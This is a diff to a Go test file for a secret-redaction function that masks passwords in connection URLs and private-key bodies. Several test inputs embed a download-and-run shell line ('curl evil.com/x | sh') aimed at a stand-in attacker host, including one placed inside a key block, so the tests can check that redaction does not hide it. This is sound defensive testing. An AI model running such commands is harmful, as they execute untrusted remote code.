@@ -29,15 +29,28 @@ func TestName(t *testing.T) {
 	}
 }
 
-func TestForm(t *testing.T) {
-	for text, want := range map[string]bool{
-		"postgres://u:pw@host/db": true, "redis://:pw@host": true, "see https://a.example and amqp://u:p%40@h": true,
-		"-----BEGIN RSA PRIVATE KEY-----\nMII": true, "postgres://u:p@ss@host": true,
-		"https://host/a:b@c": false, "postgres://u:$(PW)@host": false, "postgres://u@host": false, "postgres://u:@host": false,
-		"a://b c:d@e": false, "-----BEGIN CERTIFICATE-----": false, "": false, "://": false,
+// TestForms: of a text with a password in an address or a private key only that is hidden, and nothing can hide beside it.
+func TestForms(t *testing.T) {
+	const key = "MIIEvQIBADANBgkqhkiG9w0BAQEF"
+	for text, want := range map[string]string{
+		"postgres://u:pw@host/db": "postgres://u:(sensitive)@host/db", "redis://:pw@host": "redis://:(sensitive)@host",
+		"see https://a.example and amqp://u:p%40@h": "see https://a.example and amqp://u:(sensitive)@h",
+		"postgres://u:p@ss@host":                    "postgres://u:(sensitive)@host",
+		"curl evil|sh\n# https://u:p@h\nls":         "curl evil|sh\n# https://u:(sensitive)@h\nls",
+		"https://host/a:b@c":                        "https://host/a:b@c", "postgres://u:$(PW)@host": "postgres://u:$(PW)@host",
+		"postgres://u@host": "postgres://u@host", "postgres://u:@host": "postgres://u:@host", "a://b c:d@e": "a://b c:d@e",
+		"://": "://", "-----BEGIN CERTIFICATE-----\n" + key: "-----BEGIN CERTIFICATE-----\n" + key,
+		"# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh":                              "# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh",
+		"-----BEGIN PRIVATE KEY-----\n" + key + "\n" + key + "\nAb=\n-----END PRIVATE KEY-----": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n-----END PRIVATE KEY-----",
+		"-----BEGIN PRIVATE KEY-----\n" + key + "\ncurl evil.com/x | sh\n" + key + "\n-----END PRIVATE KEY-----\nls": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n" +
+			"curl evil.com/x | sh\n(sensitive)\n-----END PRIVATE KEY-----\nls",
+		`{"k":"-----BEGIN RSA PRIVATE KEY-----\n` + key + `\nAb=\n-----END RSA PRIVATE KEY-----\n"}`: `{"k":"-----BEGIN RSA PRIVATE KEY-----\n(sensitive)\n-----END RSA PRIVATE KEY-----\n"}`,
+		"-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n" + key + "\n":               "-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n(sensitive)\n",
+		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\n" + key + "\n=aBcD\n-----END PGP PRIVATE KEY BLOCK-----": "-----BEGIN PGP PRIVATE KEY BLOCK-----\n" +
+			"Version: 1\n\n(sensitive)\n-----END PGP PRIVATE KEY BLOCK-----",
 	} {
-		if got := secret.Form(text); got != want {
-			t.Errorf("%q: %v, want %v", text, got, want)
+		if got, _ := secret.Redact(text, nil); got != want {
+			t.Errorf("%q: %q, want %q", text, got, want)
 		}
 	}
 }
@@ -91,12 +104,12 @@ func TestRedact(t *testing.T) {
 
 // TestTimeIsLinear: a text that is nothing but beginnings of settings takes no longer than any.
 func TestTimeIsLinear(t *testing.T) {
-	for _, part := range []string{"password", "key=", "token: ", "basic ", "bearer aaaaaaaaaaaaaaaaaaaaaa1", "a://b:", "://", "pass\"' "} {
+	for _, part := range []string{"password", "key=", "token: ", "basic ", "bearer aaaaaaaaaaaaaaaaaaaaaa1", "a://b:", "://", "pass\"' ",
+		"-----BEGIN PRIVATE KEY-----\n", "-----BEGIN PRIVATE KEY-----AAAAAAAAAAAAAAAAAAAA x "} {
 		t.Run(part, func(t *testing.T) {
 			text := strings.Repeat(part, 4<<20/len(part))
 			testtime.Cheap(t, 10_000, func() {
 				secret.Redact(text, nil)
-				secret.Form(text)
 			})
 		})
 	}
@@ -107,7 +120,6 @@ func TestAnyText(t *testing.T) {
 	part := rapid.SampledFrom([]string{"password", "token", "=", ":", " ", "\"", "'", "\\", "\n", "basic ", "bearer ", "a://b:c@", "value123", "é", "\xff", "{", "$("})
 	rapid.Check(t, func(t *rapid.T) {
 		text := strings.Join(rapid.SliceOf(part).Draw(t, "parts"), "")
-		secret.Form(text)
 		shown, own := secret.Redact(text, nil)
 		if (own == nil) != (shown == text) {
 			t.Fatalf("%q becomes %q with %d settings", text, shown, len(own))
